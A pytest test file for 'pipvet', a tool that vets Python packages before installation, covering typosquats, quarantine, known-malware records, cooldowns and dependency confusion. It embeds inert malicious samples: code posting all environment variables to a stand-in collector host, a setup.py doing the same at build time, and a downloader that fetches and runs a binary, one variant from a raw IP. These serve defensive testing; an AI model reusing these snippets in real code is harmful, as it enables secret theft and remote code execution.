"""The install gate end to end: a real loopback index, real pip, real temporary venvs.

Every refusal lists the target venv (every file and its sha256) before and after and asserts it is
exactly as it was. The malicious test samples below are written here, tiny and inert: they are
inspected as data and, when the gate works, never installed or built.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from tests.support.index_server import uploaded_ago
from tests.support.terminal import child_env, run_on_terminal
from tests.test_install import tree, write_lock

from pipvet.cli.main import main
from pipvet.sources.environment import installed_distributions

# an inert sample: sends the environment to a collector when imported (never imported here)
ENV_TO_NETWORK = """\
import json
import os
import urllib.request

urllib.request.urlopen(
    "https://collector.example.invalid/upload",
    data=json.dumps(dict(os.environ)).encode(),
)
"""

# an in-tree build backend that runs setup.py, as setuptools does: if the gate ever let the
# sdist through, pip would build it and setup.py would write the marker
RUN_SETUP_BACKEND = """\
import runpy

from tinybuild import build_wheel as _build_wheel


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    runpy.run_path("setup.py", run_name="__main__")
    return _build_wheel(wheel_directory, config_settings, metadata_directory)
"""


def setup_py(marker: Path, *, send: bool) -> str:
    body = f"import os\nopen({str(marker)!r}, 'w').write('setup.py ran')\n"
    if send:
        body += (
            "import json, urllib.request\n"
            "try:\n"
            "    urllib.request.urlopen('https://collector.example.invalid/u',"
            " data=json.dumps(dict(os.environ)).encode(), timeout=1)\n"
            "except Exception:\n"
            "    pass\n"
        )
    return body


MALWARE_RECORD = {
    "id": "MAL-2099-7",
    "modified": "2026-01-01T00:00:00Z",
    "summary": "beta 1.1 steals credentials",
    "details": "A test malware record.",
    "affected": [{"package": {"ecosystem": "PyPI", "name": "beta"}, "versions": ["1.1"]}],
    "database_specific": {"malicious-packages-origins": [{"source": "test"}]},
}


@pytest.fixture(autouse=True)
def _isolated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Own caches, no user policy, a project folder of its own, pip config that must be ignored."""
    monkeypatch.setenv("PIPVET_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setenv("PIPVET_CONFIG_DIR", str(tmp_path / "user-config"))
    monkeypatch.setenv("PIP_INDEX_URL", "http://127.0.0.1:9/never-used/")
    project = tmp_path / "project"
    project.mkdir()
    monkeypatch.chdir(project)


@pytest.fixture
def venv(tmp_path: Path) -> Path:
    env = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(env)], check=True)
    return env


def installed(env: Path) -> dict[str, str]:
    return {d.name: str(d.version) for d in installed_distributions(str(env))}


def run(capsys, *argv: str) -> tuple[int, str]:
    capsys.readouterr()
    rc = main(["install", *argv])
    captured = capsys.readouterr()
    return rc, captured.err + captured.out


def artifact_requests(index) -> list[str]:
    return [r for r in index.requests if r.startswith("/files/") and not r.endswith(".metadata")]


def refused_unchanged(capsys, venv: Path, *argv: str) -> str:
    before = tree(venv)
    rc, out = run(capsys, *argv, "--python", str(venv))
    assert rc == 1, out
    assert tree(venv) == before
    return out


def test_clean_set_installs_with_a_summary(make_index, venv, capsys, installer):
    index = make_index(standard=True)
    rc, out = run(
        capsys, "--installer", installer, "alpha", "--index-url", index.url, "--python", str(venv)
    )
    assert rc == 0, out
    assert installed(venv) == {"alpha": "2.0", "beta": "1.1", "gamma": "1.0"}
    assert "install gate: 3 package(s), 3 file(s) inspected (3 clean); nothing blocked" in out


def test_typosquat_is_refused_before_anything_is_downloaded(make_index, venv, capsys):
    index = make_index()
    index.add_wheel("reqeusts", "1.0")
    out = refused_unchanged(capsys, venv, "reqeusts", "--index-url", index.url)
    assert "typosquat of requests" in out and "did you mean requests (rank 6)?" in out
    assert artifact_requests(index) == []


def test_a_name_not_on_the_index_gets_a_suggestion(make_index, venv, capsys):
    index = make_index(standard=True)
    rc, out = run(capsys, "reqeusts", "--index-url", index.url, "--python", str(venv))
    assert rc == 2, out
    assert "not on the index" in out and "did you mean requests (rank 6)?" in out


def test_quarantined_project_is_refused_with_that_word(make_index, venv, capsys):
    index = make_index(standard=True)
    index.add_wheel("evilpkg", "1.0")
    index.set_status("evilpkg", "quarantined", "malware reported")
    out = refused_unchanged(capsys, venv, "evilpkg", "--index-url", index.url)
    assert "evilpkg is quarantined" in out and "malware reported" in out
    assert artifact_requests(index) == []


def test_archived_dependency_warns_and_installs(make_index, venv, capsys):
    index = make_index(standard=True)
    index.set_status("gamma", "archived")
    rc, out = run(capsys, "alpha", "--index-url", index.url, "--python", str(venv))
    assert rc == 0, out
    assert "gamma is archived" in out
    assert installed(venv)["gamma"] == "1.0"


def test_cooldown_holds_back_a_version_uploaded_an_hour_ago(make_index, venv, capsys):
    index = make_index(standard=True)
    index.add_wheel("alpha", "3.0", requires=["beta>=1.0"], upload_time=uploaded_ago(hours=1))
    args = ("alpha", "--index-url", index.url, "--python", str(venv))
    rc, out = run(capsys, *args, "--min-release-age", "7")
    assert rc == 0, out
    assert installed(venv)["alpha"] == "2.0"
    assert "held back by the cooldown" in out and "alpha: 2.0 instead of 3.0" in out


def test_cooldown_refuses_a_locked_version_uploaded_an_hour_ago(make_index, venv, tmp_path, capsys):
    index = make_index(standard=True)
    index.add_wheel("alpha", "3.0", requires=["beta>=1.0"], upload_time=uploaded_ago(hours=1))
    pins = [("alpha", "3.0"), ("beta", "1.1"), ("gamma", "1.0")]
    lock = write_lock(index, tmp_path / "requirements.lock", pins)
    out = refused_unchanged(capsys, venv, "--lock", str(lock), "--min-release-age", "7")
    assert "alpha==3.0 was uploaded 1 hour(s) ago, under the cooldown of 7 days" in out
    assert artifact_requests(index) == []


def test_cooldown_from_the_policy(make_index, venv, tmp_path, capsys):
    index = make_index(standard=True)
    index.add_wheel("alpha", "3.0", requires=["beta>=1.0"], upload_time=uploaded_ago(hours=1))
    Path("pyproject.toml").write_text("[tool.pipvet]\nmin-release-age = 2\n")
    rc, out = run(capsys, "alpha", "--index-url", index.url, "--python", str(venv))
    assert rc == 0, out
    assert installed(venv)["alpha"] == "2.0"


@pytest.fixture
def malware_db(tmp_path: Path) -> Path:
    records = tmp_path / "osv"
    records.mkdir()
    (records / "MAL-2099-7.json").write_text(json.dumps(MALWARE_RECORD))
    db = tmp_path / "advisories.sqlite"
    assert main(["db", "update", "--from", str(records), "--db", str(db)]) == 0
    return db


@pytest.mark.parametrize("requested", ["beta==1.1", "alpha"])  # direct, and transitive
def test_known_malware_is_refused(make_index, venv, malware_db, requested, capsys, installer):
    index = make_index(standard=True)
    out = refused_unchanged(
        capsys,
        venv,
        "--installer",
        installer,
        requested,
        "--index-url",
        index.url,
        "--db",
        str(malware_db),
    )
    assert "beta==1.1 is known malware (MAL-2099-7)" in out
    assert artifact_requests(index) == []


def test_wheel_sending_the_environment_at_import_is_blocked(make_index, venv, capsys, installer):
    index = make_index(standard=True)
    index.add_wheel("envsend", "1.0", files={"envsend/__init__.py": ENV_TO_NETWORK})
    out = refused_unchanged(
        capsys, venv, "--installer", installer, "envsend", "--index-url", index.url
    )
    assert "BLOCKED" in out and "envsend==1.0" in out
    assert "envsend-1.0-py3-none-any.whl envsend/__init__.py:" in out  # file, path and line


def test_allowlist_entry_lifts_a_block_and_yes_never_does(make_index, venv, capsys):
    index = make_index(standard=True)
    index.add_wheel("envsend", "1.0", files={"envsend/__init__.py": ENV_TO_NETWORK})
    refused_unchanged(capsys, venv, "envsend", "--index-url", index.url, "--yes")
    Path("pipvet.toml").write_text(
        '[[allow]]\npackage = "envsend==1.0"\nreason = "reviewed: test sample"\n'
        "expires = 2999-12-31\n"
    )
    rc, out = run(capsys, "envsend", "--index-url", index.url, "--python", str(venv), "--dry-run")
    assert rc == 0, out
    assert "allowed by the policy" in out and "reviewed: test sample" in out
    Path("pipvet.toml").write_text(
        '[[allow]]\npackage = "envsend"\nreason = "old"\nexpires = 2020-01-01\n'
    )
    out = refused_unchanged(capsys, venv, "envsend", "--index-url", index.url)
    assert "expired on 2020-01-01" in out


# an inert sample: a self-update helper that downloads a program and starts it, only when called
# (suspicious: the gate blocks it). "tqdm" is used for its rank on the popular list.
SELF_UPDATE = """\
import subprocess
import urllib.request


def self_update(url):
    path, _ = urllib.request.urlretrieve(url, "/tmp/tqdm-update.bin")
    subprocess.run([path], check=True)
"""
# the same helper, reformatted, with a comment added, beside new harmless code
SELF_UPDATE_LATER = """\
import subprocess
import urllib.request


def self_update( url ):
    path, _ = urllib.request.urlretrieve(url,   "/tmp/tqdm-update.bin")  # noqa: S310
    subprocess.run([path], check=True)


def version_text():
    return "1.1"
"""
# the same helper beside a new sign of intent in the same file: a raw IP address
SELF_UPDATE_AND_RAW_IP = (
    SELF_UPDATE
    + """

def mirror():
    return urllib.request.urlopen("http://45.61.136.21/m").read()
"""
)


# a self-updater with its address written in; a hijacked update that only points it elsewhere
# keeps every finding the same: the files' hosts tell the two apart
UPDATER_AT = """\
import subprocess
import urllib.request

UPDATES = "https://{host}/latest/installer"


def self_update():
    path, _ = urllib.request.urlretrieve(UPDATES, "/tmp/tqdm-update.bin")
    subprocess.run([path], check=True)
"""


def _releases(index, name: str, old: str | None, new: str, *, old_days: float = 200) -> None:
    if old is not None:
        index.add_wheel(
            name, "1.0", files={f"{name}/update.py": old}, upload_time=uploaded_ago(days=old_days)
        )
    index.add_wheel(name, "1.1", files={f"{name}/update.py": new}, upload_time=uploaded_ago(days=2))


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (SELF_UPDATE, SELF_UPDATE_LATER),  # reformatted, a comment added, new code beside it
        (  # the same host, another path
            UPDATER_AT.format(host="updates.tqdm.example"),
            UPDATER_AT.format(host="updates.tqdm.example").replace("latest", "v2"),
        ),
    ],
    ids=["reformatted", "same-host"],
)
def test_long_standing_code_of_a_popular_project_warns_and_installs(
    make_index, venv, capsys, old, new
):
    index = make_index()
    _releases(index, "tqdm", old, new)
    rc, out = run(capsys, "tqdm==1.1", "--index-url", index.url, "--python", str(venv))
    assert rc == 0, out
    assert installed(venv) == {"tqdm": "1.1"}
    assert "BLOCKED" not in out
    assert "long-standing: the same code was in tqdm 1.0" in out
    assert "tqdm==1.1 is suspicious: comparing it with tqdm 1.0 (uploaded" in out
    assert "/files/tqdm-1.0-py3-none-any.whl" in artifact_requests(index)


@pytest.mark.parametrize(
    ("name", "old", "new", "old_days", "policy"),
    [
        ("tqdm", "VERSION = '1.0'\n", SELF_UPDATE, 200, ""),  # a hijacked update brings it
        ("tqdm", SELF_UPDATE, SELF_UPDATE, 20, ""),  # the earlier release is too recent
        ("tqdm", None, SELF_UPDATE, 0, ""),  # no earlier release
        ("tqdm", SELF_UPDATE, SELF_UPDATE_AND_RAW_IP, 200, ""),  # a new sign beside it
        ("tqdm", SELF_UPDATE, SELF_UPDATE, 200, 'block = ["rule:gate.long-standing"]\n'),
        ("selfupdater", SELF_UPDATE, SELF_UPDATE, 200, ""),  # not a popular project
        ("tqdm", ENV_TO_NETWORK, ENV_TO_NETWORK, 200, ""),  # malicious: never compared
        (  # the same updater, pointed at another host
            "tqdm",
            UPDATER_AT.format(host="updates.tqdm.example"),
            UPDATER_AT.format(host="cdn.elsewhere.example"),
            200,
            "",
        ),
    ],
    ids=str.split("hijacked too-recent first new-sign policy not-popular malicious new-host"),
)
def test_code_not_long_standing_stays_blocked(
    make_index, venv, capsys, name, old, new, old_days, policy
):
    index = make_index()
    _releases(index, name, old, new, old_days=old_days)
    if policy:
        Path("pipvet.toml").write_text(policy)
    out = refused_unchanged(capsys, venv, f"{name}==1.1", "--index-url", index.url)
    assert "BLOCKED" in out and f"{name}==1.1" in out
    assert "long-standing" not in out
    if "elsewhere" in new:
        assert "name hosts that release did not (cdn.elsewhere.example)" in out


def test_an_earlier_release_that_fails_its_hash_leaves_the_block(make_index, venv, capsys):
    index = make_index()
    _releases(index, "tqdm", SELF_UPDATE, SELF_UPDATE)
    index.replace_bytes("tqdm-1.0-py3-none-any.whl", b"not the listed bytes")
    out = refused_unchanged(capsys, venv, "tqdm==1.1", "--index-url", index.url)
    assert "BLOCKED" in out and "long-standing" not in out
    assert "could not compare with an earlier release" in out


def _marker_sdist(index, marker: Path, name: str, *, send: bool) -> None:
    index.add_sdist(
        name,
        "1.0",
        files={"setup.py": setup_py(marker, send=send), "_backend.py": RUN_SETUP_BACKEND},
        build_backend="_backend",
        backend_path=".",
    )


def test_allowed_sdist_whose_setup_py_sends_the_environment_never_runs(
    make_index, venv, tmp_path, capsys, installer
):
    index = make_index(standard=True)
    marker = tmp_path / "MARKER-setup-py-ran"
    _marker_sdist(index, marker, "setupmark", send=True)
    out = refused_unchanged(
        capsys,
        venv,
        "--installer",
        installer,
        "setupmark",
        "--index-url",
        index.url,
        "--allow-sdist",
        "setupmark",
    )
    assert "setupmark==1.0" in out and "BLOCKED" in out
    assert not marker.exists()


def test_the_marker_sdist_would_run_if_let_through(make_index, venv, tmp_path, capsys, installer):
    """The control for the test above: with the block lifted by the policy, pip builds the
    sdist and its (harmless) setup.py writes the marker, so that test can fail."""
    index = make_index(standard=True)
    marker = tmp_path / "MARKER-control"
    _marker_sdist(index, marker, "setupok", send=False)
    Path("pipvet.toml").write_text(
        '[[allow]]\npackage = "setupok"\nreason = "control"\nexpires = 2999-12-31\n'
    )
    rc, out = run(
        capsys, "--installer", installer, "setupok", "--index-url", index.url,
        "--allow-sdist", "setupok", "--python", str(venv),
    )  # fmt: skip
    assert rc == 0, out
    assert marker.exists()


def test_name_served_by_two_indexes_is_refused(make_index, venv, capsys):
    index = make_index(standard=True)
    other = make_index()
    index.add_wheel("corp-lib", "1.0")
    other.add_wheel("corp-lib", "99.0")
    out = refused_unchanged(
        capsys, venv, "corp-lib", "--index-url", index.url, "--extra-index-url", other.url
    )
    assert "corp-lib is served by more than one index" in out
    assert "more than one index is in play" in out
    assert artifact_requests(index) == [] and artifact_requests(other) == []


def test_yanked_dependency_not_pinned_is_refused_from_a_lock_pinned_warns(
    make_index, venv, tmp_path, capsys
):
    index = make_index(standard=True)
    index.yank("beta-1.1-py3-none-any.whl", "broken")
    lock = write_lock(index, tmp_path / "requirements.lock")
    rc, out = run(capsys, "--lock", str(lock), "--python", str(venv))
    assert rc == 0, out  # a lock pins exactly, as pip would install it too
    assert "beta==1.1 is yanked (pinned exactly)" in out


def test_lock_refuses_known_malware_even_transitive(make_index, tmp_path, capsys):
    index = make_index(standard=True)
    records = tmp_path / "osv"
    records.mkdir()
    (records / "MAL-2099-7.json").write_text(json.dumps(MALWARE_RECORD))
    assert main(["db", "update", "--from", str(records)]) == 0  # the cache's index (tmp)
    out_file = tmp_path / "requirements.lock"
    rc = main(["lock", "alpha", "--index-url", index.url, "-o", str(out_file)])
    err = capsys.readouterr().err
    assert rc == 1, err
    assert "beta==1.1 is known malware (MAL-2099-7)" in err
    assert not out_file.exists()


def test_terminal_asks_before_installing_what_warns(make_index, venv, capsys):
    index = make_index(standard=True)
    index.set_status("gamma", "deprecated")
    argv = ["install", "alpha", "--index-url", index.url, "--python", str(venv)]
    before = tree(venv)
    run = run_on_terminal(argv, cwd=Path.cwd(), env=child_env(), answer="n")
    rc, out = run.code, " ".join(run.transcript.split())  # lines broken at the width, joined
    assert "gamma is deprecated" in out and "install anyway? [y/N]" in out
    assert rc == 1, out
    assert tree(venv) == before
    run = run_on_terminal([*argv, "--yes"], cwd=Path.cwd(), env=child_env())
    rc, out = run.code, run.transcript
    assert rc == 0, out
    assert "install anyway?" not in out
    assert installed(venv) == {"alpha": "2.0", "beta": "1.1", "gamma": "1.0"}


def test_a_name_pinned_to_one_index_comes_from_it(make_index, venv, capsys):
    index = make_index(standard=True)
    other = make_index()
    index.add_wheel("corp-lib", "1.0")
    other.add_wheel("corp-lib", "99.0")  # the dependency-confusion upload
    other.add_wheel("only-there", "2.0")
    Path("pipvet.toml").write_text(f'[index-pins]\ncorp-lib = "{index.url}"\n')
    rc, out = run(
        capsys, "corp-lib", "only-there", "--index-url", index.url,
        "--extra-index-url", other.url, "--python", str(venv),
    )  # fmt: skip
    assert rc == 0, out
    assert installed(venv) == {"corp-lib": "1.0", "only-there": "2.0"}
    assert "more than one index is in play" in out
    assert "/files/corp_lib-99.0-py3-none-any.whl" not in other.requests


def test_yanked_file_not_pinned_exactly_is_refused(make_index):
    """uv and pip skip yanked files unless pinned exactly; the gate refuses one that reaches it
    any other way (a resolver falling back to it), and warns about an exact pin."""
    from packaging.version import Version

    from pipvet.core.policy import Policy
    from pipvet.services import gate

    index = make_index(standard=True)
    for filename in index.filenames("gamma"):
        index.yank(filename, "bad build")
    loose = gate.PlannedPackage("gamma", Version("1.0"))
    report = gate.check_index_facts([loose], index_url=index.url, policy=Policy())
    assert [(i.rule, i.action) for i in report.issues] == [("gate.yanked", "block")]
    pinned = gate.PlannedPackage("gamma", Version("1.0"), pinned_exactly=True)
    report = gate.check_index_facts([pinned], index_url=index.url, policy=Policy())
    assert [(i.rule, i.action) for i in report.issues] == [("gate.yanked-pinned", "warn")]


def test_new_project_with_one_release_warns(make_index, venv, capsys):
    index = make_index(standard=True)
    index.add_wheel("fresh", "1.0", upload_time=uploaded_ago(hours=30))
    rc, out = run(capsys, "fresh", "--index-url", index.url, "--python", str(venv))
    assert rc == 0, out
    assert "fresh is new: its first upload was 30 hour(s) ago (1 release(s))" in out


def test_quarantined_dependency_and_locked_project_are_refused_with_that_word(
    make_index, venv, tmp_path, capsys
):
    index = make_index(standard=True)
    lock = write_lock(index, tmp_path / "requirements.lock")
    index.set_status("gamma", "quarantined")
    index.add_wheel("needsq", "1.0", requires=["qdep"])
    index.add_wheel("qdep", "1.0")
    index.set_status("qdep", "quarantined")
    out = refused_unchanged(capsys, venv, "needsq", "--index-url", index.url)
    assert "qdep is quarantined" in out
    out = refused_unchanged(capsys, venv, "--lock", str(lock))
    assert "gamma is quarantined" in out
    assert artifact_requests(index) == []


def test_lock_leaves_out_a_version_uploaded_an_hour_ago(make_index, tmp_path, capsys):
    index = make_index(standard=True)
    index.add_wheel("alpha", "3.0", requires=["beta>=1.0"], upload_time=uploaded_ago(hours=1))
    out_file = tmp_path / "requirements.lock"
    argv = ["lock", "alpha", "--index-url", index.url, "-o", str(out_file)]
    assert main([*argv, "--min-release-age", "7"]) == 0
    err = capsys.readouterr().err
    assert "cooldown: alpha held back to 2.0 (3.0 is too new)" in err
    assert "alpha==2.0" in out_file.read_text()
    assert main(argv) == 0  # without the cooldown, the new version is taken
    assert "alpha==3.0" in out_file.read_text()


def test_lock_never_builds_a_blocked_sdist(make_index, tmp_path, capsys):
    index = make_index(standard=True)
    marker = tmp_path / "MARKER-lock"
    _marker_sdist(index, marker, "setupmark", send=True)
    out_file = tmp_path / "requirements.lock"
    rc = main(["lock", "setupmark", "--index-url", index.url, "--allow-sdist", "setupmark",
               "-o", str(out_file)])  # fmt: skip
    assert rc == 1, capsys.readouterr().err
    assert not marker.exists() and not out_file.exists()


def test_a_dependency_named_like_a_squat_warns_a_requested_one_blocks(make_index, venv, capsys):
    index = make_index(standard=True)
    index.add_wheel("reqeusts", "1.0")
    index.add_wheel("needs-it", "1.0", requires=["reqeusts"])
    rc, out = run(capsys, "needs-it", "--index-url", index.url, "--python", str(venv), "--yes")
    assert rc == 0, out
    assert "[gate.typosquat-dependency]  reqeusts looks like a typosquat of requests" in out
    assert installed(venv) == {"needs-it": "1.0", "reqeusts": "1.0"}


def test_a_requested_squat_in_a_requirements_file_blocks(make_index, venv, tmp_path, capsys):
    index = make_index(standard=True)
    index.add_wheel("reqeusts", "1.0")
    req = tmp_path / "requirements.in"
    req.write_text(f"--index-url {index.url}\nreqeusts\n")
    out = refused_unchanged(capsys, venv, "-r", str(req))
    assert "[gate.typosquat]  reqeusts looks like a typosquat of requests" in out
    assert artifact_requests(index) == []


def test_the_summary_is_coloured_on_a_terminal_and_plain_in_a_pipe(make_index, venv, capsys):
    index = make_index()
    index.add_wheel("reqeusts", "1.0")
    argv = ["install", "reqeusts", "--index-url", index.url, "--python", str(venv)]
    run = run_on_terminal(argv, cwd=Path.cwd(), env=child_env())
    assert run.code == 1, run.transcript
    # the BLOCKED heading in bold red (rich: ESC[1;31m), the section's items plain
    assert re.search(rb"\x1b\[1;31m\s*BLOCKED:", run.raw), run.raw[:400]
    assert "typosquat of requests" in " ".join(run.transcript.split())
    plain = refused_unchanged(capsys, venv, "reqeusts", "--index-url", index.url)
    assert "BLOCKED:" in plain and "\x1b" not in plain
